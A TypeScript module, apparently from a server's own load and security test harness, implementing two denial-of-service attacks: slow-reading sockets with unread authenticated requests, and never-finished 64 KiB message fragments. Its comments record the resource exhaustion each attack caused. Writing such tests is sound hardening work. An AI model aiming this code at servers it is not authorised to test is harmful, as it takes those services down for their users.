/** Large states for sockets and requests that do not read (H7, N), and messages that are begun and never finished (H9). */
import { connect } from 'node:net';
import { unfinishedFrame } from '../../frames.js';
import type { Attack } from '../attack.js';
import { type Attacker, pause } from '../attacker.js';
import { fillPages, makePages } from '../holdings.js';

const SOCKETS = 100;
const REQUESTS = 60;
const PAGES = 10;
const ALARMS_A_PAGE = 2_000;

let pages: string[] = [];

async function request(attacker: Attacker): Promise<void> {
  const { hostname, port, host } = new URL(attacker.settings.url);
  const connection = connect({ host: hostname, port: Number(port), localAddress: attacker.settings.localAddress });
  connection.on('error', () => undefined);
  connection.write(
    `GET /pages/${pages[0]} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${attacker.account.token}\r\n\r\n`,
  );
  connection.pause();
  for (let waited = 0; waited < 5_000 && !attacker.isOver && !connection.destroyed; waited += 100) await pause(100);
  connection.destroy();
}

export const unreadStates: Attack = {
  name: 'unread-states',
  found: 'H7, N: 600 sockets that never read took 2.9 GB, 60 requests held others up for 17 s',
  prepare: async (attacker) => {
    pages = await makePages(attacker, PAGES);
    await fillPages(attacker, pages, ALARMS_A_PAGE);
  },
  run: async (attacker) => {
    await Promise.all([
      attacker.over(SOCKETS, async () => {
        const socket = await attacker.socket();
        if (!socket) return pause(50);
        socket.stopReading();
        // A socket that is not read does not notice that it was cut, so it reconnects from time to time.
        for (let waited = 0; waited < 5_000 && !attacker.isOver; waited += 100) await pause(100);
        socket.cut();
      }),
      attacker.over(REQUESTS, () => request(attacker)),
    ]);
  },
};

/** 64 KiB of a message that goes on. */
const piece = 'x'.repeat(64 * 1024 - 1);

export const fragments: Attack = {
  name: 'fragments',
  found: 'H9: 150 sockets held 4 MiB each of messages that they never finished',
  run: (attacker) =>
    attacker.over(SOCKETS, async () => {
      const socket = await attacker.socket();
      if (!socket) return pause(50);
      for (let n = 0; n < 64 && socket.isOpen && !attacker.isOver; n++) {
        socket.write(unfinishedFrame(piece, n === 0));
        while (socket.isOpen && socket.unsent > 0 && !attacker.isOver) await pause(5);
      }
      for (let waited = 0; waited < 10_000 && socket.isOpen && !attacker.isOver; waited += 100) await pause(100);
      socket.cut();
    }),
};
